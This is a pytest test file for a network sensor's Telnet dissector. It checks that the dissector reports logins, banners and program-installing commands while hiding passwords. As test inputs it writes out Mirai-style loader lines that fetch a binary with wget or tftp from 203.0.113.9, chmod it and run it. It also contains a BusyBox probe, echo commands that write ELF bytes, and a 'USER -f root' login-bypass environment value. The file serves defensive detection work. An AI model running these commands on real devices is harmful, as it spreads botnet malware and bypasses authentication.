"""Telnet: banners, logins with their result, and lines that install programs; passwords and other input are never
reported.
"""

from __future__ import annotations

import pytest

from sensor.core.batch import Problem
from sensor.core.packet import Packet
from sensor.core.reader import Malformed
from sensor.dissectors.shared.seal import seal
from sensor.dissectors.telnet import Telnet
from tests.dissectors.samples import events, facts, packets, values


def conversation(*parts: tuple[bool, bytes]) -> list[object]:
    stream, packet = Telnet().stream(Packet()), Packet(proto=6)
    return [parsed for from_client, data in parts for parsed in stream.feed(packet, data, from_client)]


def of_client(port: int) -> list[Packet]:
    return [packet for packet in packets("telnet") if port in (packet.sport, packet.dport)]


def test_two_logins() -> None:
    """A failed and an accepted login are reported; corrections while typing are applied."""
    stream = Telnet().stream(Packet())
    parsed = [
        parsed for packet in of_client(49180) for parsed in stream.feed(packet, packet.payload, packet.dport == 23)
    ]
    banner = "SG350-28 28-Port Gigabit Managed Switch User Access Verification"
    assert events(parsed) == [
        ("TelnetBanner", banner),
        ("TelnetLogin", "admin", True, "refused", seal("admin", b"wrong-secret")),
        ("TelnetLogin", "netops", True, "accepted", seal("netops", b"right-secret")),
    ]
    assert facts(parsed) == [("02:00:5e:00:53:01", "10.20.30.1", "telnet.banner", banner)]
    assert "secret" not in repr(events(parsed))
    assert stream.idle == (False, True)


@pytest.mark.parametrize(
    ("shown", "expected"),
    [
        (b"\r\nRT-AC68R login: ", [("telnet.prompt", "RT-AC68R login:")]),
        (b"MikroTik v6.42.3 (stable)\r\nLogin: ", [("telnet.banner", "MikroTik v6.42.3 (stable)")]),
        (b"\r\nPassword required, but none set", [("telnet.banner", "Password required, but none set")]),
        (b"Welcome\r\nrouter-7>", [("telnet.banner", "Welcome"), ("telnet.prompt", "router-7>")]),
        (b"\r\nUsername:", []),
    ],
)
def test_prompts_that_name_the_device(shown: bytes, expected: list[tuple[str, str]]) -> None:
    """A prompt with a device name is an observation, once, answered or not; without an answer there is no event."""
    later = (False, b"\r\nother login: "), (True, b"admin\r\n")
    assert values(conversation((False, shown), (True, b"admin\r\n"), *later)) == expected
    stream, packet = Telnet().stream(Packet()), Packet(proto=6)
    parsed = [*stream.feed(packet, shown, False), *stream.finish()]
    assert values(parsed) == expected
    assert events(parsed) == []


def test_a_program_is_planted() -> None:
    """The BusyBox probe and the line that downloads and runs a program are reported, other input is not. Passwords in
    URLs are removed.
    """
    stream = Telnet().stream(Packet())
    parsed = [
        parsed for packet in of_client(49181) for parsed in stream.feed(packet, packet.payload, packet.dport == 23)
    ]
    line = "cd /tmp; wget http://203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; chmod 777 .l; ./.l tel"
    assert events(parsed) == [
        ("TelnetLogin", "root", True, "accepted", seal("root", b"factory-secret")),
        ("TelnetCommand", "/bin/busybox LZRD"),
        ("TelnetCommand", line),
    ]


@pytest.mark.parametrize(
    ("typed", "found"),
    [
        (b"wget --http-password=x -p y http://a/b\n", "wget --http-password=*** -p *** http://a/b"),
        (rb"echo -ne '\x7f\x45\x4c\x46' >> .l" + b"\r\n", r"echo -ne '\x7f\x45\x4c\x46' >> .l"),
        (rb"echo -e '\177\105\114\106' > .l" + b"\r\n", r"echo -e '\177\105\114\106' > .l"),
        (b"chmod +x l; ./l\r\0", "chmod +x l; ./l"),
    ],
)
def test_lines_that_are_reported_without_a_login(typed: bytes, found: str) -> None:
    assert events(conversation((False, b"BusyBox\r\n# "), (True, typed)))[-1] == ("TelnetCommand", found)


def test_what_else_is_typed_stays_unsaid() -> None:
    """After a login a gap of the server is ignored; a gap of the client discards the line."""
    stream, packet = Telnet().stream(Packet()), Packet(proto=6)
    for from_client, data in (
        (False, b"login: "),
        (True, b"a\r\n"),
        (False, b"Password: "),
        (True, b"b\r\n"),
        (False, b"$ "),
        (True, b"passwd\r\nnew pass word\r\nwge"),
    ):
        list(stream.feed(packet, data, from_client))
    list(stream.gap(packet, 100, False))
    assert events(stream.feed(packet, b"t http://a/b\r\n", True)) == [("TelnetCommand", "wget http://a/b")]
    list(stream.feed(packet, b"wg", True))
    list(stream.gap(packet, 3, True))
    assert events(stream.feed(packet, b"http://a/b\r\nls\r\ncat /etc/config\r\n", True)) == []


def one_way(*typed: bytes) -> list[object]:
    """The events of a client's input, in a capture without packets of the server."""
    stream, packet = Telnet().stream(Packet()), Packet(proto=6, problem=Problem.ONE_SIDED)
    return events([parsed for data in typed for parsed in stream.feed(packet, data, True)])


def test_logins_without_the_server() -> None:
    """Without the server the first two lines are a login, and so is a repeated user with the next line."""
    login = [("TelnetLogin", "root", True, "undecided", seal("root", word)) for word in (b"one", b"two", b"three")]
    assert one_way(b"root\r\n", b"one\r\n", b"\r\n", b"root\r\n", b"two\r\n", b"root\r\0three\r\0") == login
    loader = b"wget http://203.0.113.9/l -O l; chmod 777 l"
    assert one_way(b"root\r\n", b"one\r\n", b"ls -l\r\n", loader + b"\r\n") == [
        login[0],
        ("TelnetCommand", loader.decode()),
    ]
    assert one_way(b"show version\r\n", b"show run\r\n", b"\r\n") == []


def test_listening_ends() -> None:
    """After a login only some thousand bytes are parsed."""
    stream, packet = Telnet().stream(Packet()), Packet(proto=6)
    for from_client, data in (
        (False, b"login: "),
        (True, b"a\r\n"),
        (False, b"Password: "),
        (True, b"b\r\n"),
        (False, b"$ "),
        (True, b"ls\r\n" * 3000),
    ):
        list(stream.feed(packet, data, from_client))
    assert stream.done


@pytest.mark.parametrize(
    ("shown", "result"),
    [
        (b"\r\nLogin incorrect\r\nlogin: ", "refused"),
        (b"\r\nhost login: ", "refused"),
        (b"\r\nWelcome!\r\n$ ", "accepted"),
        (b"\r\n...", "undecided"),
    ],
)
def test_results(shown: bytes, result: str) -> None:
    """The result follows from a message, another prompt or a shell; otherwise it is undecided."""
    parsed = conversation(
        (False, b"host login: "),
        (True, b"root\r\n"),
        (False, b"Password: "),
        (True, b"x\r\n"),
        (False, shown),
        (True, b"l"),
    )
    assert [event for event in events(parsed) if event[0] == "TelnetLogin"] == [
        ("TelnetLogin", "root", True, result, seal("root", b"x"))
    ]


def test_hanging_up_is_no_answer() -> None:
    """If the client disconnects, the last output of the server decides the result; without output, or without a pending
    login, there is no event.
    """
    stream = Telnet().stream(Packet())
    parsed = [
        parsed for packet in of_client(49182) for parsed in stream.feed(packet, packet.payload, packet.dport == 23)
    ]
    assert events([*parsed, *stream.finish()])[-1] == (
        "TelnetLogin",
        "root",
        True,
        "accepted",
        seal("root", b"other-secret"),
    )
    assert events(stream.finish()) == []
    for shown in (b"", b"\r\n"):
        stream, packet = Telnet().stream(Packet()), Packet(proto=6)
        for from_client, data in (
            (False, b"login: "),
            (True, b"a\r\n"),
            (False, b"Password: "),
            (True, b"b\r\n"),
            (False, shown),
        ):
            list(stream.feed(packet, data, from_client))
        assert events(stream.finish()) == []


def test_password_alone() -> None:
    """Some devices ask for a password only."""
    parsed = conversation((False, b"Vigor login\r\nPassword: "), (True, b"x\r\n"), (False, b"\r\n> "), (True, b"sys"))
    assert events(parsed) == [("TelnetBanner", "Vigor login"), ("TelnetLogin", "", True, "accepted", seal("", b"x"))]


def test_password_alone_is_refused() -> None:
    """The same prompt again is a refusal; a prompt for a new password is none."""
    for shown, result in ((b"\r\nPassword: ", "refused"), (b"\r\nNew password: ", "undecided")):
        parsed = conversation((False, b"\r\nPassword: "), (True, b"x\r\n"), (False, shown), (True, b"y"))
        assert events(parsed) == [("TelnetLogin", "", True, result, seal("", b"x"))]


def test_last_login_is_no_prompt() -> None:
    """Only a line that is answered is a prompt: "Last login:" is not."""
    parsed = conversation(
        (False, b"a login: "),
        (True, b"u\r\n"),
        (False, b"Password: "),
        (True, b"x\r\n"),
        (False, b"Last login: Tue Nov 24 on tty1\r\n$ "),
        (True, b"w"),
    )
    assert events(parsed)[-1] == ("TelnetLogin", "u", True, "accepted", seal("u", b"x"))


def test_escaped_bytes_and_options_in_text() -> None:
    """Options may occur anywhere; a doubled IAC is a byte."""
    parsed = conversation((False, b"ab\xff\xfb\x01c\xff\xffd\r\nlogin: "), (True, b"x"))
    assert values(parsed) == [("telnet.banner", "abc\N{REPLACEMENT CHARACTER}d")]


def test_gap_forgets_the_login() -> None:
    """A gap discards the login: the missing bytes may contain the prompt."""
    stream, packet = Telnet().stream(Packet()), Packet(proto=6)
    list(stream.feed(packet, b"login: ", False))
    list(stream.feed(packet, b"root\r\n", True))
    list(stream.gap(packet, 10, False))
    parsed = [*stream.feed(packet, b"\r\n# ", False), *stream.feed(packet, b"id\r\n", True)]
    assert parsed == []


def test_other_protocols() -> None:
    """Bytes that a terminal does not display are malformed."""
    with pytest.raises(Malformed):
        conversation((False, b"\x16\x03\x01\x02"))


def test_long_output_is_not_searched_again() -> None:
    """After a password, only a new line of the server decides a login, and only the first 4096 bytes are searched."""
    stream, packet = Telnet().stream(Packet()), Packet(proto=6)
    list(stream.feed(packet, b"login: ", False))
    list(stream.feed(packet, b"root\r\n", True))
    list(stream.feed(packet, b"Password: ", False))
    list(stream.feed(packet, b"x\r\n", True))
    assert events(stream.feed(packet, b"Login incorrect", False)) == []
    assert list(stream.feed(packet, b"line of output\r\n" * 400, False)) != []
    assert events(stream.feed(packet, b"Login incorrect\r\n", False)) == []


def test_memory_is_bounded() -> None:
    """Endless text is not kept in memory."""
    parsed = conversation((False, b"a\r\n" * 50_000 + b"login: "), (True, b"u" * 5000 + b"\r\n"))
    assert len(values(parsed)[0][1]) <= 1024


@pytest.mark.parametrize(
    ("environment", "expected"),
    [
        (b"\xff\xfa\x27\0\0USER\x01-f root\xff\xf0", [("ServiceCommand", "telnet", "USER -f root")]),
        (b"\xff\xfa\x27\0\0TERM\x01xterm\0USER\x01-fbin\xff\xf0", [("ServiceCommand", "telnet", "USER -fbin")]),
        (b"\xff\xfa\x27\0\0USER\x01anna\xff\xf0", []),
        (b"\xff\xfa\x27\0\xff\xf0", []),
    ],
)
def test_options_of_the_login_program(environment: bytes, expected: list[object]) -> None:
    """A user in the environment that is an option is reported, another one is not."""
    stream = Telnet().stream(Packet())
    assert events(stream.feed(Packet(), environment, True)) == expected
    assert events(Telnet().stream(Packet()).feed(Packet(), environment, False)) == []


def test_a_bot_on_the_port_of_telnet() -> None:
    """The hello of Mirai is no Telnet; what follows is read as its protocol."""
    stream, found = Telnet().stream(Packet()), []
    for from_client, data in ((True, b"\0\0\0\x01"), (True, b"\x04mips"), *((n % 2 == 0, b"\0\0") for n in range(4))):
        found += events(stream.feed(Packet(), data, from_client))
    assert found == [("RatMessage", "Mirai", "", True)]
    assert list(stream.gap(Packet(), 2, True)) == []
